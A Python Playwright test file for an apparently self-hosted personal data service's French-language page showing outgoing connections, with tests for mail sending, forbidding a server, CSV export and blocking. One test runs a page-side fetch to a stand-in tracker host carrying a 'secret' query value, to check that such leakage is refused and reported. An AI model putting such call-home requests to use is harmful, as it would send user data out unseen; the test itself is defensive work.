"""What left the place, as a person sees it: each connection of a mail, forbidding a server, the file of it all."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from browser.post import Post, post
from browser.server import Server

if TYPE_CHECKING:
    from collections.abc import Iterator

    from browser.server import Person
    from browser.tests.conftest import Visiting


@pytest.fixture(scope="module")
def mailing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Post]]:
    """A server that sends mail."""
    with post() as box:
        server = Server(tmp_path_factory.mktemp("egress"), **box.settings())
        server.start()
        yield server, box
        server.stop()


def _mail(server: Server, person: Person, subject: str) -> None:
    """Has a mail sent to the person."""
    token = server.operator.token(person.domain, scope="io.cozy.jobs")
    parts = [{"type": "text/plain", "body": "Bonjour"}]
    arguments = {"mode": "noreply", "subject": subject, "parts": parts}
    body = {"data": {"attributes": {"arguments": arguments, "options": {}}}}
    headers = {"Authorization": f"Bearer {token}"}
    person.place.ask("POST", "/jobs/queue/sendmail", json=body, headers=headers)


def test_nothing_has_left_a_new_place(person: Person, visiting: Visiting) -> None:
    visit = visiting(person)
    page = visit.open("egress")
    expect(page.get_by_role("heading", name="Rien n’est sorti de votre lieu")).to_be_visible()
    visit.check("egress-none")
    page.get_by_label("Le nom d’un serveur à interdire").fill("pas un nom")
    expect(page.get_by_text("Ce n’est pas le nom d’un serveur")).to_be_visible()
    page.get_by_label("Le nom d’un serveur à interdire").fill("Tracker.Example")
    page.keyboard.press("Enter")
    expect(page.get_by_text("Plus rien ne sera envoyé à tracker.example.")).to_be_visible()
    expect(page.get_by_role("button", name="Permettre tracker.example")).to_be_visible()
    page.get_by_role("button", name="Annuler").click()
    expect(page.get_by_text("tracker.example peut de nouveau être joint.")).to_be_visible()
    expect(page.get_by_role("button", name="Permettre tracker.example")).to_have_count(0)


def test_a_mail_is_a_connection_that_home_counts_and_that_can_be_forbidden(
    mailing: tuple[Server, Post], visiting: Visiting
) -> None:
    server, box = mailing
    person = server.person("courrier", Email="camille@example.org")
    bill = {"vendor": "EDF", "amount": 45.9, "currency": "EUR", "date": "2026-03-02T00:00:00Z"}
    person.place.ask("POST", "/data/io.cozy.bills/", json=bill)  # a place without anything tells no facts yet
    _mail(server, person, "Un")
    box.next()
    visit = visiting(person)
    page = visit.open("place")
    expect(page.get_by_text("1 connexion vers l’extérieur")).to_be_visible()
    page.get_by_role("link", name=re.compile(r"^\d.* k?o$")).click()
    expect(page.get_by_role("heading", name="Ce qui est sorti de mon lieu")).to_be_visible()
    expect(page).to_have_url(re.compile(r"month=\d{4}-\d\d"))
    lines = page.get_by_role("region", name="Chaque connexion").get_by_role("listitem")
    expect(lines).to_have_count(1)
    expect(lines).to_contain_text("Envoi d’un mail")
    visit.check("egress")

    page.get_by_role("button", name=re.compile("^Interdire ")).first.click()
    expect(page.get_by_text(re.compile("^Plus rien ne sera envoyé"))).to_be_visible()
    _mail(server, person, "Deux")
    expect(lines).to_have_count(2)
    expect(lines.first).to_contain_text("refusée, rien n’est parti")
    page.keyboard.press("/")
    expect(page.get_by_role("searchbox")).to_be_focused()
    page.keyboard.type("nulle part")
    expect(page.get_by_role("heading", name="Aucune connexion ne correspond")).to_be_visible()
    page.keyboard.press("Tab")
    page.keyboard.press("Escape")
    expect(lines).to_have_count(2)
    with page.expect_download() as downloading:
        page.get_by_role("button", name="Exporter en CSV").click()
    assert downloading.value.suggested_filename == "ce-qui-est-sorti.csv"
    assert downloading.value.path().read_text("utf-8").count("\n") == 3
    visit.check("egress-forbidden")


def test_a_page_that_calls_home_is_kept_in_and_told(person: Person, visiting: Visiting) -> None:
    visit = visiting(person)
    visit.allow(r"tracker\.example")
    page = visit.open("place")
    with page.expect_request("**/.alcove/kept-in"):
        page.evaluate("fetch('https://tracker.example/collect?secret=1').catch(() => null)")
    page = visit.open("egress")
    line = page.get_by_role("region", name="Chaque connexion").get_by_role("listitem")
    expect(line).to_have_count(1)
    expect(line).to_contain_text("tracker.example")
    expect(line).to_contain_text("La page d’une application, retenue par le navigateur")
    expect(line).to_contain_text("refusée, rien n’est parti")
    visit.check("egress-page")
